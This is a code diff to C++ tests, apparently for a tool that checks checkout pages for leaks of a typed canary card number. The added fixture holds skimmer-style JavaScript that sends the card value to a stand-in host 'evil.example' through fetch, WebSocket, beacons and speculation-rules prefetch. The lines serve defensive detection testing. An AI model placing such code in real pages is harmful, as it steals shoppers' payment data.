@@ -39,6 +39,7 @@ namespace {
 using script::PageOutcome;
 using script::PageRun;
 using ::testing::AllOf;
+using ::testing::AnyOf;
 using ::testing::Contains;
 using ::testing::HasSubstr;
 using ::testing::IsEmpty;
@@ -264,6 +265,11 @@ TEST_F(PageLook, FindsTheCanaryOnEveryWayOutAndKeepsItIn) {
           "var w=new WebSocket(e.replace('https','wss')+'/socket');w.onopen=()=>w.send(btoa(v));\n"
           "addEventListener('pagehide',()=>navigator.sendBeacon(e+'/leaving',new Blob([v])));\n"
           "fetch('/pay',{method:'POST',body:v}).catch(()=>1);\n"
+          "fetch(e+'/method',{method:v}).catch(()=>1);\n"
+          "fetch(e+'/long',{method:'POST',body:'x'.repeat(300*1024)+v}).catch(()=>1);\n"
+          "var s=document.createElement('script');s.type='speculationrules';s.textContent="
+          "JSON.stringify({prefetch:[{source:'list',urls:[e+'/ahead?d='+btoa(v)]}],"
+          "prerender:[{source:'list',urls:['/ahead?d='+btoa(v)]}]});document.head.append(s);\n"
           "})});\n",
           {{"@", evil}}));
   AddStep("#card", "{card}");
@@ -285,15 +291,39 @@ TEST_F(PageLook, FindsTheCanaryOnEveryWayOutAndKeepsItIn) {
     }
   }
   EXPECT_THAT(ways, UnorderedElementsAre("xhr", "fetch", "beacon", "image", "split", "xor",
-                                         "socket", "leaving", "pay"));
+                                         "socket", "leaving", "pay", "method"));
   // Nothing of it went anywhere, the shop's own server included.
   for (const absl::string_view line : absl::StrSplit(site_.Requests(), '\n')) {
     const std::string request(line);
     if (absl::StartsWith(request, "evil.example")) {
       EXPECT_THAT(request, HasSubstr("/socket"));
     }
-    EXPECT_THAT(request, Not(HasSubstr("/pay")));
+    EXPECT_THAT(request, Not(AnyOf(HasSubstr("/pay"), HasSubstr("/ahead"))));
   }
+}
+
+// As of a page that waits to be told of something.
+TEST_F(PageLook, DoesNotWaitForRequestsThatStayOpen) {
+  // It takes connections in and answers none.
+  const int silent = socket(AF_INET, SOCK_STREAM, 0);
+  sockaddr_in address{};
+  address.sin_family = AF_INET;
+  address.sin_port = htons(static_cast<uint16_t>(site_.socket_port()));
+  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  ASSERT_EQ(bind(silent, reinterpret_cast<const sockaddr*>(&address), sizeof(address)), 0);
+  ASSERT_EQ(listen(silent, 8), 0);
+  WriteCheckout(absl::StrCat("<script>addEventListener('load',()=>{fetch('", Evil(),
+                             "/socket').catch(()=>1);new EventSource('", Evil(),
+                             "/socket')})</script>"));
+  AddStep("#card", "{card}");
+  AddStep("#expiry", "{expiry}");
+  // Below what three waits would take.
+  look_.browser.set_seconds_max(40);
+  const PageRun run = script::LookAtPage(look_);
+  close(silent);
+  EXPECT_EQ(run.outcome, PageOutcome::kOk) << run.reason;
+  EXPECT_TRUE(run.canary_typed);
+  EXPECT_EQ(run.hosts.at("evil.example"), 2);
 }
 
 TEST_F(PageLook, NotesARequestThatCannotBeDecodedAfterTheCanaryWasTyped) {
